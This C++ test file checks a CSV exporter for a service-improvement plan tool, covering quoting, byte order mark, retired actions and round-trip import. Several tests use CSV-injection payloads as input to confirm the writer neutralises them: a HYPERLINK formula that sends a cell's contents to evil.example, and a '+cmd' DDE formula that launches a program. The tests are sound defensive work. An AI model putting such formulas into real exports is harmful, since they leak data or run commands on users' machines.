#include "reporting/plan_csv_writer.hpp"

#include <filesystem>

#include <gtest/gtest.h>

#include "../domain/plan_fixture.hpp"
#include "../support/temp_dir.hpp"
#include "import/plan_reader.hpp"
#include "reporting/plan_json_writer.hpp"

namespace csip::reporting {
namespace {

namespace fs = std::filesystem;
namespace fixture = domain::fixture;

const fs::path kPlans = CSIP_PLANS_DIR;

const std::string kHeader =
    "workstream_id,workstream_title,workstream_sponsor,workstream_lead,commitment_id,"
    "commitment_text,recommendations,action_id,action_text,lead,due,original_due,status,rag,"
    "latest_update_on,latest_update_by,latest_update_text,retired_on,retired_by,retired_reason\r\n";

domain::Plan canonical_plan() {
    auto result = import::read_plan_json(testing::read_file(kPlans / "valid" / "canonical.json"),
                                         "canonical.json");
    EXPECT_TRUE(result.problems.empty());
    return result.plan.value_or(domain::Plan{});
}

std::vector<std::string> rows_of(const std::string& csv) {
    std::vector<std::string> rows;
    std::size_t start = 0;
    for (auto end = csv.find("\r\n"); end != std::string::npos; end = csv.find("\r\n", start)) {
        rows.push_back(csv.substr(start, end - start));
        start = end + 2;
    }
    return rows;
}

TEST(WritePlanCsv, StartsWithAByteOrderMarkAndTheHeader) {
    const auto csv = write_plan_csv(fixture::small_plan());
    EXPECT_EQ(csv.substr(0, 3), "\xEF\xBB\xBF");
    EXPECT_EQ(csv.substr(3, kHeader.size()), kHeader);
}

TEST(WritePlanCsv, WritesOneRowPerActionInPeoplesWords) {
    const auto rows = rows_of(write_plan_csv(fixture::small_plan()));
    ASSERT_EQ(rows.size(), 5U);  // the header and four actions
    EXPECT_EQ(rows[1],
              "W1,Practice,Director,Head of Service,C1,Timely assessments,R1,A1,Do A1,Head of "
              "Service,2015-12-01,2015-12-01,Not started,,,,,,,");
    EXPECT_EQ(rows[2].substr(rows[2].find(",A2,")),
              ",A2,Do A2,Head of Service,2015-08-01,2015-08-01,In progress,Red,,,,,,");
    EXPECT_NE(rows[4].find(",Complete,,"), std::string::npos) << rows[4];
}

TEST(WritePlanCsv, QuotesFieldsThatHoldCommasQuotesLineBreaksOrEdgeSpaces) {
    auto plan = fixture::small_plan();
    auto& action = plan.workstreams[0].commitments[0].actions[1];
    action.text = "Audit, then \"report\"\nto the board";
    action.lead = " Head of Service";
    action.updates.push_back({fixture::d("2015-09-01"), "Manager", "Done, mostly.",
                              domain::ActionStatus::InProgress, domain::Rag::Red});
    plan.workstreams[0].commitments[0].recommendations = {"R1", "R2"};
    const auto csv = write_plan_csv(plan);
    EXPECT_NE(csv.find(",R1;R2,A2,\"Audit, then \"\"report\"\"\nto the board\",\" Head of "
                       "Service\",2015-08-01,2015-08-01,In progress,Red,2015-09-01,Manager,"
                       "\"Done, mostly.\",,,\r\n"),
              std::string::npos)
        << csv;
}

// A note a spreadsheet would run as a formula (OWASP's CSV injection) is written as text: a
// single quote before it and the cell in quotes.
TEST(WritePlanCsv, WritesCellsASpreadsheetWouldRunAsFormulasAsQuotedText) {
    auto plan = fixture::small_plan();
    auto& action = plan.workstreams[0].commitments[0].actions[1];
    action.text = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
    action.lead = "@SUM(1+1)";
    action.updates.push_back({fixture::d("2015-09-01"), "-2+3", "+cmd|' /C calc'!A0",
                              domain::ActionStatus::InProgress, domain::Rag::Red});
    const auto rows = rows_of(write_plan_csv(plan));
    ASSERT_EQ(rows.size(), 5U);
    EXPECT_EQ(rows[2].substr(rows[2].find(",A2,")),
              ",A2,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\",\"'@SUM(1+1)\","
              "2015-08-01,2015-08-01,In progress,Red,2015-09-01,\"'-2+3\",\"'+cmd|' /C calc'!A0\","
              ",,");
}

TEST(WritePlanCsv, WritesARetiredActionsRetirementAsTextASpreadsheetWillNotRun) {
    auto plan = fixture::small_plan();
    auto& action = plan.workstreams[0].commitments[0].actions[1];
    action.text = "=HYPERLINK(\"http://evil.example\",\"Click\")";
    action.retired = domain::Retirement{fixture::d("2015-09-10"), "@amy", "-merged into A3"};
    const auto rows = rows_of(write_plan_csv(plan));
    ASSERT_EQ(rows.size(), 5U);
    EXPECT_EQ(rows[2].substr(rows[2].find(",A2,")),
              ",A2,\"'=HYPERLINK(\"\"http://evil.example\"\",\"\"Click\"\")\",Head of Service,"
              "2015-08-01,2015-08-01,In progress,Red,,,,2015-09-10,\"'@amy\",\"'-merged into A3\"");
    // An action in the plan leaves the three blank.
    EXPECT_EQ(rows[1].substr(rows[1].size() - 3), ",,,");
}

TEST(WritePlanCsv, GuardsCellsStartingWithATabOrCarriageReturnButNotPlainNumbers) {
    auto plan = fixture::small_plan();
    plan.workstreams[0].title = "\t=1+1";
    plan.workstreams[0].sponsor = "\r=1+1";
    plan.workstreams[0].lead = "-12.5";
    const auto rows = rows_of(write_plan_csv(plan));
    EXPECT_EQ(rows[1].substr(0, rows[1].find(",C1,")), "W1,\"'\t=1+1\",\"'\r=1+1\",-12.5");
}

// What csip writes it reads back as the text it was given, including text that already starts
// with the quote the guard adds and text that only looks guarded.
TEST(PlanCsvRoundTrip, KeepsTextThatASpreadsheetWouldRunAsAFormula) {
    auto plan = fixture::small_plan();
    auto& actions = plan.workstreams[0].commitments[0].actions;
    actions[1].text = "=HYPERLINK(\"http://evil.example\",\"Click\")";
    actions[1].lead = "'=already quoted";
    actions[2].text = "-5 cases since July";
    actions[2].lead = "''@two quotes";
    actions[3].text = "'quoted, but not a formula";
    actions[3].lead = "\t+tab first";
    actions[1].updates.push_back({fixture::d("2015-09-01"), "@officer", "+cmd|' /C calc'!A0",
                                  domain::ActionStatus::InProgress, domain::Rag::Red});
    plan.workstreams[0].commitments[0].text = "-";
    const auto result = import::read_plan_csv(write_plan_csv(plan), "plan.csv", &plan);
    ASSERT_TRUE(result.problems.empty()) << to_string(result.problems.front());
    ASSERT_TRUE(result.plan);
    EXPECT_EQ(write_plan_json(*result.plan), write_plan_json(plan));
    const auto& read = result.plan->workstreams[0].commitments[0].actions;
    EXPECT_EQ(read[1].text, actions[1].text);
    EXPECT_EQ(read[1].lead, "'=already quoted");
    EXPECT_EQ(read[2].lead, "''@two quotes");
    EXPECT_EQ(read[3].text, "'quoted, but not a formula");
    EXPECT_EQ(read[3].lead, "\t+tab first");
}

TEST(WritePlanCsv, GivesARowToACommitmentWithNoActionsAndAWorkstreamWithNoCommitments) {
    const auto rows = rows_of(write_plan_csv(canonical_plan()));
    EXPECT_NE(std::find(rows.begin(), rows.end(),
                        "W2,Improving the Quality of our Practice,Director of Communities,Head of "
                        "Children and Families Services,C2.2,\"Supervision is regular, recorded "
                        "and reflective.\",R1,,,,,,,,,,,,,"),
              rows.end());
    EXPECT_EQ(rows.back(),
              "W5,Improving Services to Children Looked After and Care Leavers,Director of "
              "Communities,\"Service Manager, Children in Care\",,,,,,,,,,,,,,,,");
}

TEST(PlanCsvRoundTrip, ImportingAnExportOverTheSameStoredPlanGivesThatPlan) {
    for (const auto& plan : {canonical_plan(), fixture::small_plan()}) {
        const auto result = import::read_plan_csv(write_plan_csv(plan), "plan.csv", &plan);
        ASSERT_TRUE(result.problems.empty()) << to_string(result.problems.front());
        ASSERT_TRUE(result.plan);
        EXPECT_EQ(write_plan_json(*result.plan), write_plan_json(plan));
    }
}

// A plan edited item by item, its retired items included, comes back as it was: an action's
// retirement through its columns, the rest from the stored plan.
TEST(PlanCsvRoundTrip, KeepsRetiredItemsVersionsAndMeasureStatus) {
    auto read = import::read_plan_json(testing::read_file(kPlans / "valid" / "retired.json"),
                                       "retired.json");
    ASSERT_TRUE(read.plan);
    const auto& plan = *read.plan;
    const auto result = import::read_plan_csv(write_plan_csv(plan), "plan.csv", &plan);
    ASSERT_TRUE(result.problems.empty()) << to_string(result.problems.front());
    ASSERT_TRUE(result.plan);
    EXPECT_EQ(write_plan_json(*result.plan), write_plan_json(plan));
}

TEST(PlanCsvRoundTrip, ASpreadsheetReadAndWrittenBackReadsAsTheSamePlan) {
    const auto stored = canonical_plan();
    const auto first = import::read_plan_csv(
        testing::read_file(kPlans / "valid" / "spreadsheet.csv"), "spreadsheet.csv", &stored);
    ASSERT_TRUE(first.plan);
    // The updated plan is stored; its export, imported again, changes nothing.
    const auto again = import::read_plan_csv(write_plan_csv(*first.plan), "plan.csv", &*first.plan);
    ASSERT_TRUE(again.plan) << to_string(again.problems.front());
    EXPECT_EQ(write_plan_json(*again.plan), write_plan_json(*first.plan));
}

}  // namespace
}  // namespace csip::reporting
